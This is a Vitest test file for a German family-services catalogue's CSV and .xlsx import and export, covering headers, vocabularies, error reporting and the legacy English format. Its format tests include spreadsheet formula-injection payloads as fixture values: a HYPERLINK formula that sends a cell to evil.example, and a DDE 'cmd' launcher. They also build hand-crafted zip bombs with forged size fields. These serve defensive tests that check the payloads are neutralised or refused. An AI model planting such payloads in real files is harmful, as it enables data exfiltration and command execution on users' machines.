// The catalogue file a coordinator edits in a spreadsheet: German headers and
// values out, German or the first format's English codes in, problems that name
// row, column (as its header reads), value and the allowed values; CSV and .xlsx
// alike, and no cell a spreadsheet would run as a formula.
import { describe, expect, it } from 'vitest';
import type { ManagedOffer } from '@shared/referral-api';
import {
  AGE_PHASE_LABELS,
  LANGUAGE_LABELS,
  OFFER_FIELD_LABELS,
  OFFER_TYPE_LABELS,
  offerFileHeaderRow,
  offerToCells,
  readOfferRows,
  type OfferFileReferences,
} from '@server/services/offer-file-format';
import { UnreadableOfferFile, csvToRows, rowsToCsv, rowsToXlsx, xlsxToRows } from '@server/services/offer-file-io';
import de from '../../../locales/de/referral.json';

const references: OfferFileReferences = {
  districts: [
    { id: 'altstadt', label: 'Altstadt' },
    { id: 'nord', label: 'Nord, am Hafen' },
  ],
  organisations: [
    { id: 'fruehe-hilfen', name: 'Frühe Hilfen Demo-Stadt', kind: 'partner' },
    { id: 'jugendamt', name: 'Jugendamt', kind: 'municipality' },
  ],
};

const offer: ManagedOffer = {
  id: 'elterncafe-nord',
  name: 'Elterncafé Nord',
  organisation: 'Familienzentrum Nord',
  type: 'elterncafe',
  agePhases: ['baby', 'toddler'],
  fields: ['education', 'social'],
  districts: ['altstadt', 'nord'],
  languages: ['de', 'ar', 'tr'],
  cost: 'kostenlos',
  address: 'Hafenstraße 1',
  phone: '0201 123',
  hours: 'Di 10–12',
  whatToBring: 'Mutterpass',
  partnerOrganisationId: 'fruehe-hilfen',
  directions: 'Straßenbahn 101 bis Hafen',
  translations: { ar: { hours: 'الثلاثاء 10–12', directions: 'الترام 101 حتى Hafen' }, tr: { cost: 'ücretsiz' } },
};
/** The offer as a file of the first formats carries it: without directions and texts in other languages. */
const { directions: _directions, translations: _translations, ...germanOnly } = offer;
/** What the reader says of a file that has every column. */
const NOTHING_ABSENT = { directions: false, translations: [] };

const ENGLISH_HEADER = [
  'id',
  'name',
  'organisation',
  'type',
  'agePhases',
  'fields',
  'districts',
  'languages',
  'cost',
  'address',
  'phone',
  'hours',
  'whatToBring',
  'partnerOrganisationId',
];

describe('catalogue file in German', () => {
  it('writes German headers and German list values, and reads them back to the same offer', () => {
    const cells = offerToCells(offer, references);
    expect(offerFileHeaderRow()).toEqual([
      'Kennung',
      'Name des Angebots',
      'Träger',
      'Art des Angebots',
      'Altersphasen',
      'Bereiche',
      'Stadtteile',
      'Sprachen',
      'Kosten',
      'Adresse',
      'Telefon',
      'Sprechzeiten',
      'Bitte mitbringen',
      'Partnerorganisation',
      'Anfahrt',
      // Then, per language other than German, its four texts for families.
      ...['Englisch', 'Arabisch', 'Persisch', 'Russisch', 'Polnisch', 'Französisch', 'Türkisch', 'Ukrainisch'].flatMap((language) => [
        `Sprechzeiten (${language})`,
        `Bitte mitbringen (${language})`,
        `Kosten (${language})`,
        `Anfahrt (${language})`,
      ]),
    ]);
    expect(cells.slice(3, 8)).toEqual([
      'Elterncafé / Babyclub',
      'Baby, Kleinkind',
      'Bildung, Soziales',
      // A district whose name holds a comma is written by its id, so the list splits right.
      'Altstadt, nord',
      'Deutsch, Arabisch, Türkisch',
    ]);
    expect(cells[13]).toBe('Frühe Hilfen Demo-Stadt');
    expect(cells[14]).toBe('Straßenbahn 101 bis Hafen');
    expect(cells[offerFileHeaderRow().indexOf('Sprechzeiten (Arabisch)')]).toBe('الثلاثاء 10–12');
    expect(cells[offerFileHeaderRow().indexOf('Kosten (Arabisch)')]).toBe('');
    expect(readOfferRows([offerFileHeaderRow(), cells], references)).toEqual({
      offers: [{ row: 2, offer }],
      problems: [],
      absent: NOTHING_ABSENT,
    });
  });

  it('uses the labels the office shows for the same values (one vocabulary)', () => {
    expect(OFFER_TYPE_LABELS).toEqual(de.offerTypes);
    expect(AGE_PHASE_LABELS).toEqual(de.agePhases);
    expect(OFFER_FIELD_LABELS).toEqual(de.offerFields);
    for (const label of [...Object.values(OFFER_TYPE_LABELS), ...Object.values(AGE_PHASE_LABELS), ...Object.values(LANGUAGE_LABELS)]) {
      expect(label).not.toContain(',');
    }
  });

  it('still reads the first format: English headers and codes, district and organisation ids', () => {
    const row = [
      'elterncafe-nord',
      'Elterncafé Nord',
      'Familienzentrum Nord',
      'elterncafe',
      'baby,toddler',
      'education, social',
      'altstadt,nord',
    ];
    const rest = ['de,ar,tr', 'kostenlos', 'Hafenstraße 1', '0201 123', 'Di 10–12', 'Mutterpass', 'fruehe-hilfen'];
    const read = readOfferRows([ENGLISH_HEADER, [...row, ...rest]], references);
    expect(read.problems).toEqual([]);
    expect(read.offers).toEqual([{ row: 2, offer: germanOnly }]);
    // Neither directions nor any text in another language: the import keeps what is stored for them.
    expect(read.absent.directions).toBe(true);
    expect(read.absent.translations).toHaveLength(8 * 4);
  });

  it('reads values whatever their case and spacing, and languages by their own name too', () => {
    const cells = offerToCells(offer, references);
    cells[4] = ' kleinkind ,BABY';
    cells[7] = 'deutsch, العربية, Türkçe';
    cells[13] = 'frühe hilfen demo-stadt';
    const read = readOfferRows([offerFileHeaderRow(), cells], references);
    expect(read.problems).toEqual([]);
    expect(read.offers[0]?.offer).toMatchObject({ agePhases: ['toddler', 'baby'], languages: ['de', 'ar', 'tr'] });
  });

  it('names the row, the column as in the header, the wrong value and the allowed values', () => {
    const good = offerToCells(offer, references);
    const wrong = [...good];
    wrong[0] = 'zweites-angebot';
    wrong[4] = 'Baby, Kleinkinder';
    wrong[3] = 'Zauberei';
    wrong[6] = 'Mond';
    wrong[13] = 'Unbekannter Träger';
    const { offers, problems } = readOfferRows([offerFileHeaderRow(), good, [], wrong], references);
    expect(offers.map((o) => o.row)).toEqual([2]);
    expect(problems).toEqual([
      {
        row: 4,
        column: 'Art des Angebots',
        value: 'Zauberei',
        allowed: Object.values(OFFER_TYPE_LABELS),
        max: null,
        problem: 'notAllowed',
      },
      {
        row: 4,
        column: 'Altersphasen',
        value: 'Kleinkinder',
        allowed: ['Schwangerschaft', 'Baby', 'Kleinkind', 'Kita-Alter', 'Schulalter'],
        max: null,
        problem: 'notAllowed',
      },
      { row: 4, column: 'Stadtteile', value: 'Mond', allowed: ['Altstadt', 'Nord, am Hafen'], max: null, problem: 'unknownDistrict' },
      {
        row: 4,
        column: 'Partnerorganisation',
        value: 'Unbekannter Träger',
        allowed: ['Frühe Hilfen Demo-Stadt'],
        max: null,
        problem: 'unknownOrganisation',
      },
    ]);
  });

  it('names an English column by its English header, and missing, unknown, empty and duplicate cells', () => {
    const row = ['neu', '', 'Träger', 'familienbildung', '', 'education', '', 'de', '', '', '', '', 'x'.repeat(241), ''];
    const duplicate = ['neu', 'Neu', 'Träger', 'familienbildung', 'baby', 'education', '', 'de', '', '', '', '', '', ''];
    const { problems } = readOfferRows([ENGLISH_HEADER, row, duplicate, ['Bad Id', ...duplicate.slice(1)]], references);
    expect(problems.map((p) => [p.row, p.column, p.problem, p.value, p.max])).toEqual([
      [2, 'name', 'required', null, null],
      [2, 'agePhases', 'chooseOne', null, null],
      [2, 'whatToBring', 'tooLong', null, 240],
      [3, 'id', 'duplicateOfferId', 'neu', null],
      [4, 'id', 'invalidId', 'Bad Id', 63],
    ]);
    const header = offerFileHeaderRow().filter((title) => title !== 'Sprachen');
    expect(readOfferRows([[...header, 'Farbe']], references).problems.map((p) => [p.row, p.column, p.problem])).toEqual([
      [1, 'Farbe', 'unknownColumn'],
      [1, 'Sprachen', 'missingColumn'],
    ]);
    expect(readOfferRows([[], ['']], references).problems.map((p) => p.problem)).toEqual(['emptyFile']);
    const long = [...offerToCells(offer, references), '', 'überzählig'];
    expect(readOfferRows([offerFileHeaderRow(), long], references).problems.map((p) => p.problem)).toEqual(['wrongColumnCount']);
  });
});

describe('catalogue file formats', () => {
  const formula: ManagedOffer = {
    ...offer,
    name: '=HYPERLINK("http://evil.example/?x="&A1,"Info")',
    organisation: '+cmd|/C calc!A0',
    cost: '@SUM(1+1)',
    address: '-2+3',
  };
  const rows = [offerFileHeaderRow(), offerToCells(formula, references)];

  it('CSV: semicolons and BOM; a cell that starts like a formula leaves as text and comes back as typed', () => {
    const csv = rowsToCsv(rows);
    expect(csv.startsWith('\uFEFFKennung;Name des Angebots;Träger;')).toBe(true);
    const line = csv.split('\n')[1] ?? '';
    const cells = line.split(';').map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(cells.filter((cell) => cell.startsWith("'"))).toHaveLength(4);
    expect(csvToRows(csv)).toEqual(rows);
    expect(readOfferRows(csvToRows(csv), references).offers[0]?.offer).toEqual(formula);
  });

  it('CSV: a comma-separated file is read too; a broken quote is unreadable at its line', () => {
    expect(csvToRows('a,b\n"c, d",e')).toEqual([
      ['a', 'b'],
      ['c, d', 'e'],
    ]);
    expect(() => csvToRows('a;b\nc;"offen\n')).toThrow(UnreadableOfferFile);
  });

  it('.xlsx: round trip of the same cells, every cell text and none a formula', async () => {
    const file = await rowsToXlsx(rows);
    expect(await xlsxToRows(file)).toEqual(rows);
    const { unzipSync, strFromU8 } = await import('fflate');
    const parts = unzipSync(new Uint8Array(file));
    const sheet = Object.entries(parts).find(([name]) => name.includes('worksheets/sheet'))?.[1];
    expect(sheet).toBeDefined();
    const xml = strFromU8(sheet ?? new Uint8Array());
    expect(xml).not.toMatch(/<f[ >]/);
    // Every cell is a string cell (shared or inline), never a number or a formula.
    const types = [...xml.matchAll(/<c [^>]*?t="([^"]+)"/g)].map((match) => match[1]);
    expect(types.length).toBe(rows.flat().filter((cell) => cell !== '').length);
    expect(new Set(types)).toEqual(new Set(['s']));
  });

  it('.xlsx: a file that is no spreadsheet, or a zip that claims to unpack huge, is refused unread', async () => {
    await expect(xlsxToRows(Buffer.from('Kennung;Name'))).rejects.toThrow(UnreadableOfferFile);
    const file = await rowsToXlsx(rows);
    const bomb = Buffer.from(file);
    const directory = bomb.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    const firstEntry = bomb.readUInt32LE(directory + 16);
    bomb.writeUInt32LE(0xfffffff0, firstEntry + 24);
    await expect(xlsxToRows(bomb)).rejects.toThrow(UnreadableOfferFile);
  });

  it('.xlsx: a part that claims to be small but unpacks to more than 40 MB is refused before the sheet is read', async () => {
    const { unzipSync, zipSync } = await import('fflate');
    const parts = unzipSync(new Uint8Array(await rowsToXlsx(rows)));
    const packed = Buffer.from(zipSync({ ...parts, 'xl/media/zeros.bin': new Uint8Array(41 * 1024 * 1024) }, { level: 9 }));
    expect(packed.length).toBeLessThan(1024 * 1024);
    // The zeros part lies about its size in the directory: it says 100 bytes.
    const directory = packed.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    let offset = packed.readUInt32LE(directory + 16);
    for (let part = 0; part < packed.readUInt16LE(directory + 10); part++) {
      const nameLength = packed.readUInt16LE(offset + 28);
      if (packed.subarray(offset + 46, offset + 46 + nameLength).toString() === 'xl/media/zeros.bin')
        packed.writeUInt32LE(100, offset + 24);
      offset += 46 + nameLength + packed.readUInt16LE(offset + 30) + packed.readUInt16LE(offset + 32);
    }
    await expect(xlsxToRows(packed)).rejects.toThrow(UnreadableOfferFile);
  });
});
